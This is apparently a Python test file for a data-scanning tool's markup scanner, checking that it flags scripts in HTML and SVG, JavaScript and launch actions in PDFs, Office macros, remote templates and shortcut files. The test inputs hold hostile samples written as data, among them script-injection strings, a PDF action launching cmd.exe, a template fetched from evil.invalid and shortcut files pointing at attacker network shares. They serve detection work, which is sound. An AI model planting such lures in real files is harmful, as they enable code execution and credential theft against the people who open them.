"""Tests for datagate.scan.markup: HTML/SVG scripts, PDF actions, Office macros, shortcuts."""

from __future__ import annotations

import io
import zipfile
import zlib
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from datagate.models import Finding, Severity, Skip
from datagate.scan.interface import Blob, ContentKind, Limits, ScanContext, Scanner
from datagate.scan.markup import MARKUP_SCANNER, html_active_content, pdf_active_content
from datagate.scan.sniff import sniff
from fixtures.gen.executables import build, lnk_stub, pdf_with_js


def _scan(
    data: bytes | str,
    name: str,
    kind: ContentKind | None = None,
    *,
    member: str | None = None,
    ctx: ScanContext | None = None,
) -> list[Finding | Skip]:
    raw = data.encode() if isinstance(data, str) else data
    if kind is None:
        kind = sniff(raw)[0]
    blob = Blob("outer.bin" if member else f"r/{name}", raw, member=member, name=name, kind=kind)
    out = list(MARKUP_SCANNER.scan(blob, ctx or ScanContext()))
    assert all(isinstance(x, (Finding, Skip)) for x in out)
    return [x for x in out if isinstance(x, (Finding, Skip))]


def _rules(items: list[Finding | Skip]) -> dict[str, Finding]:
    return {f.rule: f for f in items if isinstance(f, Finding)}


def test_scanner_protocol() -> None:
    assert isinstance(MARKUP_SCANNER, Scanner) and MARKUP_SCANNER.name == "markup"


@pytest.fixture(scope="module")
def fx(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("fx")
    build(root)
    return root / "hostile/exec"


@pytest.mark.parametrize(
    ("file", "rule"),
    [
        ("page.html", "markup.script"),
        ("icon.svg", "markup.script"),
        ("paper.pdf", "pdf.active_content"),
        ("report.docm", "office.macro"),
        ("open_me.lnk", "shortcut.lnk"),
    ],
)
def test_fixtures(fx: Path, file: str, rule: str) -> None:
    r = _rules(_scan((fx / file).read_bytes(), file))
    assert r[rule].severity >= (Severity.MEDIUM if file.endswith(".html") else Severity.HIGH)


@pytest.mark.parametrize(
    ("html", "what"),
    [
        ("<html><body><script>alert(1)</script></body></html>", "script"),
        ("<html><body><img src=x onerror=alert(1)></body></html>", "event-handler"),
        ('<html><a href="javascript:alert(1)">x</a></html>', "javascript-url"),
        ('<html><a href="&#106;avascript:alert(1)">x</a></html>', "javascript-url"),
        ("<html><svg:script>alert(1)</svg:script></html>", "script"),
        (
            '<html><meta http-equiv="refresh" content="0;url=javascript:alert(1)"></html>',
            "meta-refresh",
        ),
    ],
)
def test_html_active_content_high(html: str, what: str) -> None:
    r = _rules(_scan(html, "page.html", ContentKind.HTML))
    f = r["markup.script"]
    # an HTML page runs script only when opened in a browser (crawl datasets hold pages): medium
    assert f.severity is Severity.MEDIUM
    assert what in {h["what"] for h in f.evidence["hits"]}
    assert {h["severity"] for h in f.evidence["hits"]} == {"high"}
    # the same page under an image name is a disguise: high
    g = _rules(_scan(html, "photo.jpg", ContentKind.HTML))["markup.script"]
    assert g.severity is Severity.HIGH and g.evidence["disguised_as"] == "jpg"


def test_hta_is_high() -> None:
    html = "<html><head><hta:application id=x></head><script>x()</script></html>"
    f = _rules(_scan(html, "tool.hta", ContentKind.HTML))["markup.script"]
    assert f.severity is Severity.HIGH and f.evidence["hta"] is True


def test_inline_svg_in_html_is_html() -> None:
    html = "<html><body><svg><circle/></svg><script>x()</script></body></html>"
    f = _rules(_scan(html, "a.html", ContentKind.HTML))["markup.script"]
    assert f.evidence["format"] == "html"


def test_embeds_are_medium() -> None:
    f = _rules(_scan("<html><iframe src='https://x'></iframe></html>", "a.html", ContentKind.HTML))[
        "markup.script"
    ]
    assert f.severity is Severity.MEDIUM


def test_plain_html_is_quiet() -> None:
    assert (
        _scan(
            "<!DOCTYPE html><html><body><p onion='x'>Hello</p><table></table></body></html>",
            "a.html",
            ContentKind.HTML,
        )
        == []
    )
    assert html_active_content("<p>one option=1, only=2</p>") == []


def test_svg_with_handlers() -> None:
    svg = '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"></svg>'
    f = _rules(_scan(svg, "a.svg"))["markup.script"]
    assert f.evidence["format"] == "svg" and f.severity is Severity.HIGH


def test_html_in_data_files_is_data() -> None:
    # JSON/CSV datasets of web pages hold HTML strings: that is data, not an HTML file
    for data, name in (
        ('[{"html": "<script>alert(1)</script>"}]', "pages.json"),
        ('id,html\n1,"<script>x</script>"\n', "pages.csv"),
        ('{"t": "<img onerror=x()>"}\n{"t": 1}\n', "rows.jsonl"),
    ):
        assert _scan(data, name) == [], name


def test_html_sniffed_as_text_is_still_checked() -> None:
    assert "markup.script" in _rules(
        _scan("<html><script>x</script></html>", "x.txt", ContentKind.TEXT)
    )


def test_markup_over_limit_is_skipped() -> None:
    items = _scan(
        "<html>" + "x" * 200 + "</html>",
        "a.html",
        ContentKind.HTML,
        ctx=ScanContext(limits=Limits(max_text_bytes=50)),
    )
    assert any(isinstance(i, Skip) for i in items)


def test_pdf_js_fixture_bytes() -> None:
    found, notes = pdf_active_content(pdf_with_js("t"))
    assert {"JavaScript", "JS", "OpenAction"} <= set(found)
    assert notes["flate_streams"] == 0


def _pdf(body: bytes) -> bytes:
    return b"%PDF-1.7\n" + body + b"\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"


def test_pdf_open_action_alone_is_low() -> None:
    f = _rules(
        _scan(_pdf(b"1 0 obj << /Type /Catalog /OpenAction [3 0 R /Fit] >> endobj"), "a.pdf")
    )["pdf.active_content"]
    assert f.severity is Severity.LOW


def test_pdf_obfuscated_names() -> None:
    f = _rules(_scan(_pdf(b"1 0 obj << /S /J#61vaScript /J#53 (x) >> endobj"), "a.pdf"))[
        "pdf.active_content"
    ]
    assert f.severity is Severity.HIGH and f.evidence["obfuscated_names"] is True


def test_pdf_js_inside_compressed_object_stream() -> None:
    inner = zlib.compress(b"<< /Type /Action /S /JavaScript /JS (app.alert(1)) >>")
    body = (
        b"5 0 obj << /Type /ObjStm /Filter /FlateDecode /Length %d >>\nstream\n" % len(inner)
        + inner
        + b"\nendstream endobj"
    )
    f = _rules(_scan(_pdf(body), "a.pdf"))["pdf.active_content"]
    assert f.severity is Severity.HIGH
    assert f.evidence["names"]["JavaScript"]["where"] == "compressed-stream"


def test_pdf_launch_and_benign() -> None:
    assert (
        _rules(_scan(_pdf(b"<< /S /Launch /F (cmd.exe) >>"), "a.pdf"))[
            "pdf.active_content"
        ].severity
        is Severity.HIGH
    )
    assert _scan(_pdf(b"1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj"), "a.pdf") == []


def test_ole_vba_stream() -> None:
    data = (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + bytes(600)
        + "_VBA_PROJECT".encode("utf-16-le")
        + bytes(100)
    )
    assert (
        _rules(_scan(data, "old.doc", ContentKind.OFFICE))["office.macro"].severity is Severity.HIGH
    )
    plain = (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + bytes(600)
        + "WordDocument".encode("utf-16-le")
        + bytes(100)
    )
    assert _scan(plain, "plain.doc", ContentKind.OFFICE) == []


def test_ooxml_members() -> None:
    # as the container scanner hands them over: members of the docm zip
    assert "office.macro" in _rules(
        _scan(
            b"\xd0\xcf\x11\xe0" + bytes(60),
            "vbaProject.bin",
            ContentKind.OFFICE,
            member="word/vbaProject.bin",
        )
    )
    ct = b'<Types><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
    assert "office.macro" in _rules(
        _scan(ct, "[Content_Types].xml", ContentKind.TEXT, member="[Content_Types].xml")
    )
    plain_ct = b'<Types><Default Extension="xml" ContentType="application/xml"/></Types>'
    assert (
        _scan(plain_ct, "[Content_Types].xml", ContentKind.TEXT, member="[Content_Types].xml") == []
    )
    rels = (
        b'<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/attachedTemplate" Target="https://evil.invalid/t.dotm" TargetMode="External"/></Relationships>'
    )
    f = _rules(
        _scan(rels, "settings.xml.rels", ContentKind.TEXT, member="word/_rels/settings.xml.rels")
    )["office.external_ref"]
    assert f.evidence["target"] == "https://evil.invalid/t.dotm"
    link = b'<Relationships><Relationship Type=".../hyperlink" Target="https://x" TargetMode="External"/></Relationships>'
    assert (
        _scan(link, "document.xml.rels", ContentKind.TEXT, member="word/_rels/document.xml.rels")
        == []
    )


def test_plain_docx_is_quiet() -> None:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr(
            "[Content_Types].xml",
            '<Types><Default Extension="xml" ContentType="application/xml"/></Types>',
        )
        zf.writestr("word/document.xml", "<w:document/>")
    assert _scan(buf.getvalue(), "a.docx") == []


def test_rtf_object() -> None:
    r = _rules(
        _scan(
            b"{\\rtf1{\\object\\objemb{\\*\\objdata 0105000002000000}}}",
            "a.rtf",
            ContentKind.OFFICE,
        )
    )
    assert r["office.embedded_object"].severity is Severity.HIGH


@pytest.mark.parametrize(
    ("text", "name", "rule", "severity"),
    [
        (
            "[InternetShortcut]\nURL=file://attacker/share/x.exe\n",
            "a.url",
            "shortcut.url",
            Severity.HIGH,
        ),
        (
            "[InternetShortcut]\nURL=https://example.org/\n",
            "b.url",
            "shortcut.url",
            Severity.MEDIUM,
        ),
        (
            "[Shell]\nCommand=2\nIconFile=\\\\attacker\\share\\x.ico\n",
            "x.scf",
            "shortcut.scf",
            Severity.HIGH,
        ),
        (
            "[Desktop Entry]\nType=Application\nName=Data\nExec=sh -c 'echo hi'\n",
            "data.desktop",
            "shortcut.desktop",
            Severity.HIGH,
        ),
        ("[autorun]\nopen=setup.exe\n", "autorun.inf", "shortcut.autorun", Severity.HIGH),
        (
            '<?xml version="1.0"?>\n<libraryDescription xmlns="x"><searchConnectorDescriptionList>'
            "<url>\\\\attacker\\share</url></searchConnectorDescriptionList></libraryDescription>",
            "docs.library-ms",
            "shortcut.library_ms",
            Severity.HIGH,
        ),
    ],
)
def test_shortcuts(text: str, name: str, rule: str, severity: Severity) -> None:
    assert _rules(_scan(text, name))[rule].severity is severity


def test_lnk_by_magic_under_any_name() -> None:
    assert "shortcut.lnk" in _rules(_scan(lnk_stub(), "photo.jpg", ContentKind.BINARY))


def test_ini_like_data_is_quiet() -> None:
    assert _scan("[section]\nkey=value\n", "settings.ini", ContentKind.TEXT) == []


@settings(max_examples=60, deadline=None)
@given(
    st.sampled_from(
        [
            b"%PDF-1.4\n",
            b"<html>",
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
            b"{\\rtf",
            b"[Shell]\n",
            b"",
        ]
    ),
    st.binary(max_size=400),
)
def test_fuzz_never_raises(prefix: bytes, rest: bytes) -> None:
    for kind in (ContentKind.PDF, ContentKind.HTML, ContentKind.OFFICE, ContentKind.TEXT):
        _scan(prefix + rest + b"/FlateDecode stream\n" + rest, "f", kind)


def test_odf_basic_macro_member() -> None:
    body = b'<?xml version="1.0"?><script:module xmlns:script="x" script:name="Module1">Sub Main\nShell("id")\nEnd Sub</script:module>'
    r = _rules(_scan(body, "Module1.xml", ContentKind.TEXT, member="Basic/Standard/Module1.xml"))
    assert r["office.macro"].severity is Severity.HIGH
